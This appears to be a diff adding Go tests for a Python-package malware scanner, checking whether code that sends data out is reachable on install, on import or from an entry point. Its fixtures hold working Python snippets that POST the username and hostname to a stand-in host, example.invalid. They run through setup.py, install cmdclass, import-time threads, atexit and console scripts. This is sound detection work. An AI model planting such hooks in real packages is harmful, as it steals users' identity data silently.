@@ -1,0 +1,128 @@
+package analyze
+
+import (
+	"testing"
+)
+
+// Reachability: code keeps its severity when what runs on install, on
+// import or from an entry point reaches it — across functions and
+// modules — and is runtime when nothing does. Each case that reaches has
+// its look-alike next to it, with the same code that nothing reaches.
+func TestReachability(t *testing.T) {
+	// beacon sends the user and host names: malicious where it runs on
+	// install or import, suspicious where nothing calls it.
+	beacon := "import getpass, socket, requests\n" +
+		"def collect():\n    requests.post('https://example.invalid/c', data={'u': getpass.getuser(), 'h': socket.gethostname()})\n"
+	util := beacon + "def version():\n    return open('VERSION').read().strip()\n"
+	tests := []struct {
+		name    string
+		files   map[string]string
+		wheel   bool
+		verdict Verdict
+		context Context // of the exfiltrates-host-info finding, when one is expected
+	}{
+		{"setup.py calls a helper module's function", map[string]string{
+			"setup.py":      "from setuptools import setup\nfrom p.util import collect\ncollect()\nsetup(name='p')\n",
+			"p/util.py":     util,
+			"p/__init__.py": "",
+		}, false, Malicious, Install},
+		{"setup.py calls another function of that module", map[string]string{
+			"setup.py":      "from setuptools import setup\nfrom p.util import version\nsetup(name='p', version=version())\n",
+			"p/util.py":     util,
+			"p/__init__.py": "",
+		}, false, Suspicious, Runtime},
+		{"a cmdclass calls a module function by its dotted name", map[string]string{
+			"setup.py":      "from setuptools import setup\nfrom setuptools.command.install import install\nimport p.util\nclass I(install):\n    def run(self):\n        p.util.collect()\n        install.run(self)\nsetup(name='p', cmdclass={'install': I})\n",
+			"p/util.py":     util,
+			"p/__init__.py": "",
+		}, false, Malicious, Install},
+		{"import-time code calls a chain of functions", map[string]string{
+			"p/__init__.py": "from .core import start\nstart()\n",
+			"p/core.py":     beacon + "def _init():\n    collect()\ndef start():\n    _init()\n",
+		}, false, Malicious, Import},
+		{"the same chain re-exported, not called", map[string]string{
+			"p/__init__.py": "from .core import start\n__all__ = ['start']\n",
+			"p/core.py":     beacon + "def _init():\n    collect()\ndef start():\n    _init()\n",
+		}, false, Suspicious, Runtime},
+		{"a thread started on import with an imported target", map[string]string{
+			"p/__init__.py": "import threading\nfrom .net import collect\nthreading.Thread(target=collect, daemon=True).start()\n",
+			"p/net.py":      beacon,
+		}, false, Malicious, Import},
+		{"a function registered with atexit by a decorator", map[string]string{
+			"p/__init__.py": "import atexit, getpass, socket, requests\n@atexit.register\ndef bye():\n    requests.post('https://example.invalid/c', data={'u': getpass.getuser(), 'h': socket.gethostname()})\n",
+		}, false, Malicious, Import},
+		{"a web route that runs when a request comes", map[string]string{
+			"p/__init__.py": "import getpass, socket, requests\nfrom flask import Flask\napp = Flask(__name__)\n@app.route('/')\ndef hello():\n    requests.post('https://example.invalid/c', data={'u': getpass.getuser(), 'h': socket.gethostname()})\n",
+		}, false, Suspicious, Runtime},
+		{"a class instantiated on import", map[string]string{
+			"p/__init__.py": "from .upd import Updater\nUpdater()\n",
+			"p/upd.py":      "import getpass, socket, requests\nclass Updater:\n    def __init__(self):\n        self.send()\n    def send(self):\n        requests.post('https://example.invalid/c', data={'u': getpass.getuser(), 'h': socket.gethostname()})\n",
+		}, false, Malicious, Import},
+		{"a class only subclassed on import", map[string]string{
+			"p/__init__.py": "from .upd import Updater\nclass Mine(Updater):\n    pass\n",
+			"p/upd.py":      "import getpass, socket, requests\nclass Updater:\n    def __init__(self):\n        self.send()\n    def send(self):\n        requests.post('https://example.invalid/c', data={'u': getpass.getuser(), 'h': socket.gethostname()})\n",
+		}, false, Suspicious, Runtime},
+		{"a module setup.py imports with python -c", map[string]string{
+			"setup.py":      "import os, sys\nfrom setuptools import setup\nos.system(sys.executable + ' -c \"import p.post\"')\nsetup(name='p')\n",
+			"p/post.py":     beacon + "collect()\n",
+			"p/__init__.py": "",
+		}, false, Malicious, Install},
+		{"the same module nothing runs", map[string]string{
+			"setup.py":      "from setuptools import setup\nsetup(name='p')\n",
+			"p/post.py":     beacon + "collect()\n",
+			"p/__init__.py": "",
+		}, false, Suspicious, Runtime},
+		{"a console script's function", map[string]string{
+			"p/__init__.py":                  "",
+			"p/cli.py":                       beacon + "def main():\n    collect()\n",
+			"p-1.dist-info/entry_points.txt": "[console_scripts]\np = p.cli:main\n",
+		}, true, Malicious, Entry},
+		{"the same function no entry point names", map[string]string{
+			"p/__init__.py":                  "",
+			"p/cli.py":                       beacon + "def main():\n    collect()\n",
+			"p/other.py":                     "def main():\n    print('hi')\n",
+			"p-1.dist-info/entry_points.txt": "[console_scripts]\np = p.other:main\n",
+		}, true, Suspicious, Runtime},
+		{"a package's __main__ run with python -m", map[string]string{
+			"p/__init__.py": "",
+			"p/__main__.py": beacon + "if __name__ == '__main__':\n    collect()\n",
+		}, false, Malicious, Entry},
+		{"a console script uploading the file it is given", map[string]string{
+			"p/__init__.py":                  "",
+			"p/cli.py":                       "import sys, requests\ndef main():\n    with open(sys.argv[1], 'rb') as fh:\n        requests.post('https://api.example.invalid/v1/upload', files={'f': fh})\n",
+			"p-1.dist-info/entry_points.txt": "[console_scripts]\np = p.cli:main\n",
+		}, true, Clean, ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			var r *Result
+			if tt.wheel {
+				files := map[string][]byte{}
+				for n, s := range tt.files {
+					files[n] = []byte(s)
+				}
+				r = wheelWith(t, files)
+			} else {
+				r = sdist(t, tt.files)
+			}
+			if r.Verdict != tt.verdict {
+				t.Errorf("verdict %s, want %s; findings: %+v", r.Verdict, tt.verdict, r.Findings)
+			}
+			if tt.context == "" {
+				return
+			}
+			found := false
+			for _, f := range r.Findings {
+				if f.Rule == "exfiltrates-host-info" {
+					found = true
+					if f.Context != tt.context {
+						t.Errorf("%s:%d in context %s, want %s", f.File, f.Line, f.Context, tt.context)
+					}
+				}
+			}
+			if !found {
+				t.Errorf("no exfiltrates-host-info finding: %+v", r.Findings)
+			}
+		})
+	}
+}
